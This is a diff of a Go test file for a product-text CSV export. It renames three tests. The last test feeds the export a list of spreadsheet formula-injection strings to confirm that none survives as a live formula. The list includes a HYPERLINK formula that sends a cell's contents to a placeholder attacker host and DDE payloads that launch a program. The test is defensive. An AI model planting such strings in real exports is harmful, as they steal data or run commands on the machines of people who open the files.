@@ -72,7 +72,7 @@ func write(t *testing.T, c *fileshop.Client, f galley.Field, handle, image, text
 	return target
 }
 
-func TestTheExportHoldsThePublishedTextsAndNothingElse(t *testing.T) {
+func TestExportHoldsOnlyPublishedTexts(t *testing.T) {
 	c, _, _ := open(t)
 	write(t, c, galley.FieldDescription, "lamp", "", "<p>-42 °C, \"new\",\nline</p>")
 	write(t, c, galley.FieldMetaDescription, "lamp", "", "=1+1, a lamp")
@@ -131,7 +131,7 @@ func TestPublishedTextsPersistAndEmptyExportIsValid(t *testing.T) {
 	require.Equal(t, "Odd mug | Kiln", products[0].SEOTitle)
 }
 
-func TestALibraryKeepsOnlyExports(t *testing.T) {
+func TestLibraryRefusesNonExports(t *testing.T) {
 	l := fileshop.Library{Folder: filepath.Join(t.TempDir(), "files")}
 	_, err := l.Keep("f1", "letter.csv", strings.NewReader("Dear editor,\nno handles here\n"))
 	require.Equal(t, galley.CodeInvalidFile, galley.CodeOf(err))
@@ -147,7 +147,7 @@ func TestALibraryKeepsOnlyExports(t *testing.T) {
 }
 
 // No cell starts like a formula, and each text is read back as published.
-func TestTheExportRunsNoFormulas(t *testing.T) {
+func TestExportContainsNoFormulas(t *testing.T) {
 	for _, text := range []string{
 		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
 		"@import", "'=1+1", "''=1+1", "'", "'90s lamp", "=", "a\n=1+1", "\"=1+1", ",=1+1", ";=1+1",
